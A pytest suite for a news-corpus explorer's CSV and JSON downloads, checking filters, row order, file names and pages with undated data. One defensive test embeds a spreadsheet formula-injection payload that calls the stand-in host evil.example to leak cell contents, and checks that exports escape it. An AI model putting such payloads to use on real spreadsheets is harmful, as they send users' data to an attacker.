"""Every table of the explorer as CSV and JSON: a link on its page, the page's own rows (same
filters), attachments with a file name, spreadsheet-safe CSV; and the pages of a corpus with no
dates or outlets, labels that read as words, and quote hits named as the story names them."""

from __future__ import annotations

import csv
import html
import io
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from starlette.testclient import TestClient

from storyline import ArticleRecord, open_store
from storyline.record.model import Entity, Mention, Quote, Span
from storyline.web import create_app

pytestmark = pytest.mark.model


@pytest.fixture(scope="module")
def client(corpus_db: Path) -> Iterator[TestClient]:
    with TestClient(create_app(corpus_db), base_url="http://127.0.0.1") as c:
        yield c


def _visible(fragment: str) -> str:
    return " ".join(html.unescape(re.sub(r"<[^>]+>", " ", fragment)).split())


def _links(page: str) -> dict[str, dict[str, str]]:
    """The download links of a page: testid -> {"csv": href, "json": href}."""
    found: dict[str, dict[str, str]] = {}
    for testid, body in re.findall(r'data-testid="download-([a-z]+)">(.*?)</p>', page, re.S):
        for href, fmt in re.findall(r'<a href="([^"]+)" download>(CSV|JSON)</a>', body):
            found.setdefault(testid, {})[fmt.lower()] = html.unescape(href)
    return found


def _csv(client: TestClient, href: str) -> list[dict[str, str]]:
    answer = client.get(href)
    assert answer.status_code == 200, href
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(answer.text)))


def _json(client: TestClient, href: str) -> dict[str, Any]:
    answer = client.get(href)
    assert answer.status_code == 200, href
    assert answer.headers["content-type"] == "application/json"
    return answer.json()


def _section(page: str, testid: str) -> str:
    return page.split(f'data-testid="{testid}"', 1)[1].split("</table>", 1)[0].split("</ol>")[0]


@pytest.mark.parametrize(
    ("path", "tables"),
    [
        ("/", {"figures", "disagreements", "outlets"}),
        ("/figures", {"figures"}),
        ("/events", {"events"}),
        ("/speakers", {"speakers"}),
        ("/speaker?name=Miriam+Castell", {"statements"}),
        ("/search?q=inquiry", {"quotes", "reports"}),
        ("/search", {"reports"}),
    ],
)
def test_every_table_page_links_its_downloads(client: TestClient, path: str, tables) -> None:
    links = _links(client.get(path).text)
    assert set(links) == tables
    for testid, by_format in links.items():
        assert set(by_format) == {"csv", "json"}, testid
        for fmt, href in by_format.items():
            answer = client.get(href)
            assert answer.status_code == 200, href
            disposition = answer.headers["content-disposition"]
            assert re.fullmatch(rf'attachment; filename="storyline-[a-z0-9-]+\.{fmt}"', disposition)
            assert "text/html" not in answer.headers["content-type"]


def test_events_download_has_the_filtered_page_rows(client: TestClient) -> None:
    everything = client.get("/events").text
    kind = re.findall(r'<option value="([A-Z]+)"', everything)[0]
    page = client.get("/events", params={"type": kind}).text
    n = int(re.search(r'data-testid="events-summary">(\d+)', page)[1])
    shown = re.findall(r"<tr>\s*<td>([^<]+)</td>\s*<td>([^<]+)</td>", _section(page, "events"))
    links = _links(page)["events"]
    assert f"type={kind}" in links["csv"]
    rows = _csv(client, links["csv"])
    assert len(rows) == n == len(shown)
    assert [(r["date"] or "undated", r["type"]) for r in rows] == shown
    body = _json(client, links["json"])
    assert body["filters"] == {"type": kind}
    assert [r["type"] for r in body["rows"]] == [r["type"] for r in rows]
    for row in body["rows"]:  # every event keeps the words of each report that tells it
        assert len(row["citations"]) == len(row["texts"]) >= row["n_reports"] >= 1


def test_events_download_refuses_what_the_page_refuses(client: TestClient) -> None:
    assert client.get("/events.csv", params={"since": "not-a-day"}).status_code == 400
    assert client.get("/events.xlsx").status_code == 404


def test_speaker_download_is_the_speaker_page(client: TestClient, corpus_records) -> None:
    page = client.get("/speaker", params={"name": "Miriam Castell"}).text
    shown = [_visible(q) for q in re.findall(r"<blockquote[^>]*>(.*?)</blockquote>", page, re.S)]
    rows = _csv(client, _links(page)["statements"]["csv"])
    assert [r["content"] for r in rows] == shown
    assert {r["speaker"] for r in rows} == {"Miriam Castell"}
    by_id = {r.id: r for r in corpus_records}
    for row in _json(client, _links(page)["statements"]["json"])["rows"]:
        assert by_id[row["report_id"]].text[row["start"] : row["end"]] == row["text"]
    assert client.get("/speaker.csv", params={"name": "Nobody"}).status_code == 404


def test_speakers_download_lists_the_page_in_order(client: TestClient) -> None:
    page = client.get("/speakers").text
    shown = [html.unescape(n) for n in re.findall(r'class="speaker-link"[^>]*>([^<]+)</a>', page)]
    rows = _csv(client, _links(page)["speakers"]["csv"])
    assert [r["speaker"] for r in rows] == shown
    assert {r["anonymous"] for r in rows} == {"true", "false"}


def test_figures_download_has_every_charted_value(client: TestClient) -> None:
    page = client.get("/figures").text
    charts = re.findall(r"<h3>([^<]+?) <span class=\"muted\">· (\d+) reported values", page)
    assert charts
    rows = _json(client, _links(page)["figures"]["json"])["rows"]
    counted: dict[str, int] = {}
    for row in rows:
        counted[row["counted"]] = counted.get(row["counted"], 0) + 1
    shown = {html.unescape(label): int(n) for label, n in charts}
    if 'data-testid="undated-figures"' in page:  # things no report dates are listed, not charted
        for label in re.findall(r"<tr>\s*<td>([^<]+)</td>", _section(page, "undated-figures")):
            shown[html.unescape(label)] = shown.get(html.unescape(label), 0) + 1
    assert counted == shown


def test_overview_disagreements_and_outlets_download(client: TestClient) -> None:
    page = client.get("/").text
    links = _links(page)
    table = page.split('class="disagreements"', 1)[1].split("</table>", 1)[0]
    shown = re.findall(r'<a href="[^"]+">([^<]+): ([^<]+)</a>', table)
    rows = _csv(client, links["disagreements"]["csv"])
    assert [(r["said_by"], r["shown"]) for r in rows] == [
        (html.unescape(s), html.unescape(v)) for s, v in shown
    ]
    outlets = re.findall(r'<li><a href="/search\?outlet=[^"]+">([^<]+)</a>', page)
    assert [r["outlet"] for r in _csv(client, links["outlets"]["csv"])] == outlets


def test_search_downloads_are_the_hits(client: TestClient) -> None:
    page = client.get("/search", params={"q": "inquiry"}).text
    links = _links(page)
    quotes = _csv(client, links["quotes"]["csv"])
    hits = re.findall(r"<li>(.*?)</li>", _section(page, "quote-hits"), re.S)
    assert len(quotes) == len(hits) >= 3
    for row, hit in zip(quotes, hits, strict=True):
        assert row["speaker"] in _visible(hit)
        assert row["content"] in _visible(hit)
    reports = _csv(client, links["reports"]["csv"])
    ids = re.findall(r'class="report-link" href="/reports/([^"]+)"', _section(page, "report-hits"))
    assert [r["report_id"] for r in reports] == ids
    assert all("\x02" not in r["snippet"] and "\x03" not in r["snippet"] for r in reports)
    assert client.get("/search/speakers.csv", params={"q": "inquiry"}).status_code == 404


def test_search_download_keeps_the_outlet_filter(client: TestClient, corpus_records) -> None:
    outlet = corpus_records[0].outlet
    page = client.get("/search", params={"outlet": outlet}).text
    rows = _csv(client, _links(page)["reports"]["csv"])
    assert len(rows) == sum(1 for r in corpus_records if r.outlet == outlet)
    assert {r["outlet"] for r in rows} == {outlet}


def test_search_paraphrase_has_no_quotation_marks(client: TestClient) -> None:
    page = client.get("/search", params={"q": "inquiry"}).text
    kinds = re.findall(
        r'<span class="quote kind-([a-z]+)">(.*?)</span>', _section(page, "quote-hits"), re.S
    )
    assert {k for k, _ in kinds} >= {"direct", "indirect"}
    for kind, words in kinds:
        quoted = words.startswith("“") and words.endswith("”")
        assert quoted == (kind == "direct"), words


def test_search_quote_hits_name_the_story_speaker(client: TestClient, corpus_records) -> None:
    """A report that says only "Ferreira" is Tomas Ferreira's, as on the speakers page."""
    surnames = [q for r in corpus_records for q in r.quotes if q.speaker_name == "Ferreira"]
    assert surnames  # the corpus names him by surname alone somewhere
    page = client.get("/search", params={"q": "Ferreira"}).text
    speakers = re.findall(
        r'<strong class="speaker">(.*?)</strong>', _section(page, "quote-hits"), re.S
    )
    assert len(speakers) >= len(surnames)
    assert {_visible(s) for s in speakers} == {"Tomas Ferreira"}
    assert 'href="/speaker?name=Tomas+Ferreira"' in page
    rows = _csv(client, _links(page)["quotes"]["csv"])
    assert {r["speaker"] for r in rows} == {"Tomas Ferreira"}
    assert "Ferreira" in {r["speaker_in_report"] for r in rows}


PRONOUN_TEXT = '"The river is still rising," he said on Monday.\n'


def test_search_unresolved_pronoun_is_no_name(tmp_path: Path) -> None:
    """A quote whose "he" resolves to no one shows as unnamed, never as a speaker called "he"."""
    said = PRONOUN_TEXT.index("The river")
    content = Span(start=said, end=said + 26, text=PRONOUN_TEXT[said : said + 26])
    he = PRONOUN_TEXT.index(" he ") + 1
    record = ArticleRecord(
        id="pronoun000000001",
        source="pronoun.txt",
        text=PRONOUN_TEXT,
        published="2025-03-03",
        quotes=[
            Quote(
                kind="direct",
                content=[content],
                speaker=Span(start=he, end=he + 2, text="he"),
                speaker_type="unknown",
            )
        ],
    )
    db = tmp_path / "pronoun.db"
    with open_store(db) as store:
        store.ingest([record])
    with TestClient(create_app(db), base_url="http://127.0.0.1") as c:
        page = c.get("/search", params={"q": "river"}).text
        rows = _csv(c, "/search/quotes.csv?q=river")
    speaker = re.findall(r'<strong class="speaker">(.*?)</strong>', page, re.S)
    assert [_visible(s) for s in speaker] == ["unnamed (“he”)"]
    assert [(r["speaker"], r["speaker_in_report"]) for r in rows] == [("", "he")]


# A report whose quote and speaker would run as formulas in a spreadsheet.
FORMULA = '=HYPERLINK("http://evil.example/?"&A1, "click")'
FORMULA_TEXT = f'"{FORMULA}," said @Dr Vale on Monday.\n'


def _formula_record() -> ArticleRecord:
    def span(words: str) -> Span:
        start = FORMULA_TEXT.index(words)
        return Span(start=start, end=start + len(words), text=words)

    who = span("@Dr Vale")
    return ArticleRecord(
        id="formula000000001",
        source="formula.txt",
        text=FORMULA_TEXT,
        published="2025-03-03",
        outlet="-Outlet",
        entities=[
            Entity(id="e1", name="@Dr Vale", type="PERSON", mentions=[Mention(**who.model_dump())])
        ],
        quotes=[
            Quote(
                kind="direct",
                content=[span(FORMULA + ",")],
                speaker=who,
                speaker_entity="e1",
                speaker_name="@Dr Vale",
                speaker_type="person",
                cue=span("said"),
            )
        ],
    )


def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    db = tmp_path / "formula.db"
    with open_store(db) as store:
        store.ingest([_formula_record()])
    with TestClient(create_app(db), base_url="http://127.0.0.1") as c:
        statements = c.get("/speaker.csv", params={"name": "@Dr Vale"}).text
        found = c.get("/search/quotes.csv", params={"q": "HYPERLINK"}).text
        exact = c.get("/speaker.json", params={"name": "@Dr Vale"}).json()
    for text in (statements, found):
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert all(cell[:1] not in ("=", "+", "-", "@") for cell in cells), cells
        assert "'" + FORMULA + "," in cells
        assert "'-Outlet" in cells
    assert exact["rows"][0]["content"] == FORMULA + ","  # JSON: exactly the report's words
    assert exact["rows"][0]["outlet"] == "-Outlet"


def test_hostile_text_downloads_are_data(hostile_db: Path, payloads: dict[str, str]) -> None:
    with TestClient(create_app(hostile_db), base_url="http://127.0.0.1") as c:
        for path in ("/speakers.csv", "/figures.json", "/events.csv", "/search/reports.json"):
            answer = c.get(path)
            assert answer.status_code == 200, path
            assert "html" not in answer.headers["content-type"]
            assert answer.headers["x-content-type-options"] == "nosniff"
        assert payloads["script"] in c.get("/speakers.csv").text  # literal, as data


@pytest.fixture(scope="module")
def bare_client(tmp_path_factory: pytest.TempPathFactory, corpus_records) -> Iterator[TestClient]:
    """The corpus with no publication date, no outlet and no date of its own on any item."""
    bare = [
        r.model_copy(
            update={
                "published": None,
                "published_from": None,
                "outlet": None,
                "figures": [f.model_copy(update={"date": None}) for f in r.figures],
                "events": [e.model_copy(update={"date": None}) for e in r.events],
                "quotes": [q.model_copy(update={"date": None}) for q in r.quotes],
            }
        )
        for r in corpus_records
    ]
    db = tmp_path_factory.mktemp("bare") / "bare.db"
    with open_store(db) as store:
        store.ingest(bare)
    with TestClient(create_app(db), base_url="http://127.0.0.1") as c:
        yield c


@pytest.mark.parametrize(
    ("path", "says"),
    [
        ("/", ["no report names its outlet", "No report names its outlet.", "no publication"]),
        ("/", ["No event has a date: no report has a publication date"]),
        ("/", ["No figure can be charted: no report has a publication date"]),
        ("/figures", ["No figure can be charted: no report has a publication date"]),
        ("/events", ["none has a date (no report has a publication date)"]),
        ("/speakers", ["no report names its outlet", "no report has a publication date"]),
        ("/speaker?name=Miriam+Castell", ["none naming its outlet", "(none is dated)"]),
        ("/search?q=inquiry", ["No report has a publication date", "no report names its outlet"]),
    ],
)
def test_undated_outletless_pages_say_what_is_missing(
    bare_client: TestClient, path: str, says: list[str]
) -> None:
    page = bare_client.get(path)
    assert page.status_code == 200
    text = _visible(page.text)
    for words in says:
        assert words in text, words
    assert not re.search(r"\b0 outlets?\b", text)
    assert "No dated values" not in page.text  # no empty chart
    assert "tests/fixtures" not in text  # a report without outlet is named by its file


def test_undated_search_hits_do_not_each_say_undated(bare_client: TestClient) -> None:
    page = bare_client.get("/search", params={"q": "inquiry"}).text
    hits = _visible(_section(page, "quote-hits")) + _visible(_section(page, "report-hits"))
    assert "inquiry" in hits.casefold()
    assert "undated" not in hits  # the notice above says it once
    assert " · " not in hits  # no separator left before a missing outlet


def test_undated_figures_are_listed_and_downloadable(bare_client: TestClient) -> None:
    page = bare_client.get("/figures").text
    assert "<svg" not in page.split("<main>", 1)[1]
    listed = re.findall(r"<tr>\s*<td>", _section(page, "undated-figures"))
    rows = _csv(bare_client, _links(page)["figures"]["csv"])
    assert len(rows) == len(listed) > 0
    assert {r["date"] for r in rows} == {""}


def test_auxiliary_what_is_not_shown(tmp_path: Path, corpus_records) -> None:
    """A figure stored with what "had" is labelled by its unit alone: "family", not "family had"."""
    rec = next(r for r in corpus_records if r.figures)
    figure = rec.figures[0].model_copy(update={"what": "had"})
    changed = rec.model_copy(update={"figures": [figure, *rec.figures[1:]]})
    db = tmp_path / "had.db"
    with open_store(db) as store:
        store.ingest([changed])
    with TestClient(create_app(db), base_url="http://127.0.0.1") as c:
        pages = {p: _visible(c.get(p).text) for p in ("/", "/figures", f"/reports/{rec.id}")}
        rows = _csv(c, "/figures.csv")
    for path, text in pages.items():
        assert f"{figure.unit} had" not in text, path
    assert figure.unit in {r["counted"] for r in rows}
